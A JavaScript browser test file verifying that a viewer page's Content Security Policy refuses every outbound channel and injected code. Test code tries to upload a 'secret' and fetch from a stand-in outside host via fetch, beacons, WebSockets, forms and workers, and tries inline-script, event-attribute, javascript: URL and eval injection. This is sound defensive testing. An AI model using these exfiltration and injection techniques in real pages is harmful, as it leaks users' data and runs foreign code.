// "Nothing can be uploaded": the browser itself refuses, whatever a script in the page tries.
import assert from 'node:assert/strict';
import { STEP } from './lib/files.mjs';
import { ALL_WAYS, theServer, viewerTest } from './lib/suite.mjs';

/** Runs in the page: tries every way out, and every way in for foreign code; resolves to {name: outcome}. */
async function tryEverything({ own, foreign }) {
  const violated = new Set();
  document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
  const outcomes = {};
  const settled = (start) =>
    new Promise((resolve) => {
      setTimeout(() => resolve('no answer'), 1500);
      try {
        start(
          () => resolve('went out'),
          (error) => resolve(`refused: ${error?.name ?? 'error'}`),
        );
      } catch (error) {
        resolve(`refused: ${error.name}`);
      }
    });
  const element = (tag, attributes, parent = document.body) =>
    settled((done, failed) => {
      const made = document.createElement(tag);
      made.onload = done;
      made.onerror = failed;
      Object.assign(made, attributes);
      parent.append(made);
    });
  const attempts = [];
  const attempt = (name, outcome) => attempts.push(outcome.then((said) => Object.assign(outcomes, { [name]: said })));
  for (const [where, base] of Object.entries({ own, foreign })) {
    attempt(
      `fetch ${where}`,
      settled((done, failed) => fetch(`${base}/fetch`, { mode: 'no-cors' }).then(done, failed)),
    );
    attempt(
      `upload ${where}`,
      settled((done, failed) =>
        fetch(`${base}/upload`, { method: 'POST', body: 'secret', mode: 'no-cors' }).then(done, failed),
      ),
    );
    attempt(
      `XMLHttpRequest ${where}`,
      settled((done, failed) => {
        const request = new XMLHttpRequest();
        request.onload = done;
        request.onerror = failed;
        request.open('GET', `${base}/xhr`);
        request.send();
      }),
    );
    attempt(
      `WebSocket ${where}`,
      settled((done, failed) => {
        const socket = new WebSocket(`${base.replace('http', 'ws')}/socket`);
        socket.onopen = done;
        socket.onerror = failed;
      }),
    );
    attempt(
      `EventSource ${where}`,
      settled((done, failed) => {
        const source = new EventSource(`${base}/events`);
        source.onopen = done;
        source.onerror = failed;
      }),
    );
    attempt(`image ${where}`, element('img', { src: `${base}/image.png` }));
    attempt(`script ${where}`, element('script', { src: `${base}/script.js` }));
    attempt(`style sheet ${where}`, element('link', { rel: 'stylesheet', href: `${base}/style.css` }, document.head));
    attempt(`prefetch ${where}`, element('link', { rel: 'prefetch', href: `${base}/prefetch` }, document.head));
    attempt(`video ${where}`, element('video', { src: `${base}/video.mp4` }));
    attempt(`object ${where}`, element('object', { data: `${base}/object` }));
    // A refused frame loads an error page, so its events tell nothing; the server's list does.
    element('iframe', { src: `${base}/frame` });
    navigator.sendBeacon?.(`${base}/beacon`, 'secret');
    const form = document.createElement('form');
    Object.assign(form, { action: `${base}/form`, method: 'post', target: '_self' });
    document.body.append(form);
    try {
      form.submit();
    } catch {
      // Firefox throws what it refuses.
    }
    attempt(
      `worker's fetch ${where}`,
      settled((done, failed) => {
        const code = `fetch('${base}/from-worker', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = ({ data }) => (data ? done() : failed());
        worker.onerror = failed;
      }),
    );
  }

  window.ran = [];
  const note = (name) => `window.ran.push('${name}')`;
  const inline = document.createElement('script');
  inline.textContent = note('inline script');
  document.body.append(inline);
  const holder = document.createElement('div');
  holder.innerHTML = `<img src="data:image/png;base64,AA" onerror="${note('event attribute')}"><svg onload="${note('svg')}">`;
  document.body.append(holder);
  const link = document.createElement('a');
  link.href = `javascript:${note('javascript URL')}`;
  document.body.append(link);
  link.click();
  // In a task of the page's own: what a test evaluates may be excused from the policy.
  const evaluated = (name, run) =>
    attempt(
      name,
      new Promise((resolve) =>
        setTimeout(() => {
          try {
            run();
            resolve('ran');
          } catch (error) {
            resolve(`refused: ${error.name}`);
          }
        }),
      ),
    );
  // biome-ignore lint/security/noGlobalEval: that is what is tried
  evaluated('eval', () => window.eval('1'));
  evaluated('new Function', () => new Function('return 1')());
  setTimeout(note('timeout with text'));
  await Promise.all(attempts);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { outcomes, ran: window.ran, violated: [...violated].sort() };
}

viewerTest(
  'no way out and no foreign code, even for a script inside the page',
  async (viewer) => {
    await viewer.load(STEP);
    const server = await theServer();
    const { outcomes, ran, violated } = await viewer.page.evaluate(tryEverything, {
      own: server.url,
      foreign: 'http://elsewhere.example',
    });
    const got = Object.entries(outcomes).filter(([, said]) => !said.startsWith('refused') && said !== 'no answer');
    assert.deepEqual(got, [], 'what came through');
    assert.deepEqual(ran, [], 'foreign code that ran');
    for (const directive of ['connect-src', 'img-src', 'form-action', 'frame-src']) {
      assert.ok(violated.includes(directive), `${directive} among ${violated}`);
    }
    viewer.requests.length = 0; // events of attempts; what counts is what arrived
    viewer.mustNotHaveAsked();
    // The page is still alive.
    await viewer.press('Escape');
    assert.match(await viewer.text('headline'), /^Peak 25\.39 MiB/);
    viewer.errors.length = 0; // the browser reports each refusal
  },
  { on: ALL_WAYS },
);

viewerTest('the harness does notice requests: a page without a policy is caught', async (viewer) => {
  const server = await theServer();
  await viewer.page.goto(`${server.url}/framed.html`);
  await viewer.page.evaluate(async (own) => {
    await fetch(`${own}/caught`, { mode: 'no-cors' }).catch(() => {});
    await fetch('http://elsewhere.example/caught', { mode: 'no-cors' }).catch(() => {});
    const code = "fetch('http://elsewhere.example/worker').then(() => postMessage(0), () => postMessage(0))";
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    await new Promise((resolve) => {
      worker.onmessage = resolve;
    });
  }, server.url);
  assert.ok(server.seen.includes('GET /caught'));
  assert.ok(viewer.engine.trap.seen.includes('GET http://elsewhere.example/caught'));
  assert.ok(viewer.engine.trap.seen.includes('GET http://elsewhere.example/worker'));
  assert.throws(() => viewer.mustNotHaveAsked());
  server.seen.length = 0;
  viewer.engine.trap.seen.length = 0;
  viewer.requests.length = 0;
  viewer.errors.length = 0;
});
